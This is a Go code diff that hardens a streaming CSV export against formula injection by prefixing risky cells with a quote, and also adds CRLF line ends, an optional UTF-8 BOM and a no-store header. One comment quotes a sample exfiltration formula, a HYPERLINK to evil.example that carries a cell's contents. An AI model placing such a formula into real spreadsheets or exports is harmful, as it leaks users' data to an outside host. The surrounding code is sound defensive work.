@@ -25,6 +25,9 @@ type column struct {
 	name  string
 	index []int
 	enc   cellEncoder
+	// text is set for columns whose cells can begin with a formula character (anything but
+	// numbers and booleans): see neutralize.
+	text bool
 }
 
 // cellEncoder appends the cell of value v to dst, unquoted.
@@ -70,9 +73,44 @@ func appendColumns(cols []column, t reflect.Type, prefix string, index []int) []
 			cols = appendColumns(cols, f.Type, prefix+name+"_", idx)
 			continue
 		}
-		cols = append(cols, column{name: prefix + name, index: idx, enc: encoder(f.Type)})
+		cols = append(cols, column{name: prefix + name, index: idx, enc: encoder(f.Type), text: textual(f.Type)})
 	}
 	return cols
+}
+
+// textual reports whether cells of type t may hold text, rather than a number or a boolean
+// (whose leading '-' is a sign, not a formula).
+func textual(t reflect.Type) bool {
+	for t.Kind() == reflect.Pointer {
+		t = t.Elem()
+	}
+	if reflect.PointerTo(t).Implements(textAppender) || reflect.PointerTo(t).Implements(textMarshaler) {
+		return true
+	}
+	switch t.Kind() {
+	case reflect.Bool, reflect.Int, reflect.Int8, reflect.Int16, reflect.Int32, reflect.Int64,
+		reflect.Uint, reflect.Uint8, reflect.Uint16, reflect.Uint32, reflect.Uint64, reflect.Float32, reflect.Float64:
+		return false
+	}
+	return true
+}
+
+// neutralize defuses a formula in the cell line[start:], following OWASP's advice on CSV
+// injection: a cell beginning with =, +, -, @, a tab or a carriage return gets a leading
+// single quote, which spreadsheets show as text instead of evaluating the rest. Contact
+// names and ticket text come from end users: `=HYPERLINK("http://evil.example/?x="&A1)`
+// must reach a spreadsheet as text.
+func neutralize(line []byte, start int) []byte {
+	if start >= len(line) {
+		return line
+	}
+	switch line[start] {
+	case '=', '+', '-', '@', '\t', '\r':
+		line = append(line, 0)
+		copy(line[start+1:], line[start:])
+		line[start] = '\''
+	}
+	return line
 }
 
 var (
@@ -155,8 +193,8 @@ func encoder(t reflect.Type) cellEncoder {
 	}
 }
 
-// csvWriter writes CSV records as encoding/csv's Writer does with its defaults (comma
-// separated, "\n" line ends, a field quoted when it holds a comma, a quote, a line break,
+// csvWriter writes CSV records as encoding/csv's Writer does with UseCRLF (comma
+// separated, RFC 4180's "\r\n" line ends, a field quoted when it holds a comma, a quote, a line break,
 // starts with a space, or is `\.`), from cells appended straight into one reused line.
 type csvWriter struct {
 	w    *bufio.Writer
@@ -179,7 +217,7 @@ func (c *csvWriter) endCell(start int, last bool) {
 		c.line = append(c.line, '"')
 	}
 	if last {
-		c.line = append(c.line, '\n')
+		c.line = append(c.line, '\r', '\n')
 	} else {
 		c.line = append(c.line, ',')
 	}
@@ -208,12 +246,27 @@ func (c *csvWriter) writeLine() error {
 	return err
 }
 
+// utf8BOM starts an export asked for with ?bom=true.
+var utf8BOM = []byte{0xEF, 0xBB, 0xBF}
+
 // streamCSV writes the rows run emits as CSV, flushing every csvFlushRows rows, so an
-// export of any size holds one row in memory. The header is written with the first row
+// export of any size holds one row in memory; with ?bom=true it starts with a UTF-8 byte
+// order mark, which Excel needs to read UTF-8. The header is written with the first row
 // (or at the end of an empty export): an error before then still gets a problem response.
 // An error after rows went out aborts the connection, so a client cannot mistake a
 // truncated export for a complete one.
 func streamCSV[R any](a *API, w http.ResponseWriter, r *http.Request, name string, run func(emit func(R) error) error) {
+	bom := false
+	if vs, ok := r.URL.Query()["bom"]; ok {
+		s, err := single("bom", vs)
+		if err == nil {
+			bom, err = parseBool("bom", s)
+		}
+		if err != nil {
+			a.problem(w, r, err)
+			return
+		}
+	}
 	cols := columnsOf(reflect.TypeFor[R]())
 	cw := &csvWriter{w: bufio.NewWriterSize(w, 64<<10), line: make([]byte, 0, 512)}
 	rc := http.NewResponseController(w)
@@ -221,7 +274,11 @@ func streamCSV[R any](a *API, w http.ResponseWriter, r *http.Request, name strin
 	start := func() error {
 		h := w.Header()
 		h.Set("Content-Type", "text/csv; charset=utf-8")
+		h.Set("Cache-Control", "no-store")
 		h.Set("Content-Disposition", `attachment; filename="`+name+`.csv"`)
+		if bom {
+			cw.line = append(cw.line, utf8BOM...)
+		}
 		for i, c := range cols {
 			n := len(cw.line)
 			cw.line = append(cw.line, c.name...)
@@ -246,6 +303,9 @@ func streamCSV[R any](a *API, w http.ResponseWriter, r *http.Request, name strin
 			}
 			n := len(cw.line)
 			cw.line = c.enc(cw.line, f)
+			if c.text {
+				cw.line = neutralize(cw.line, n)
+			}
 			cw.endCell(n, i == len(cols)-1)
 		}
 		if err := cw.writeLine(); err != nil {
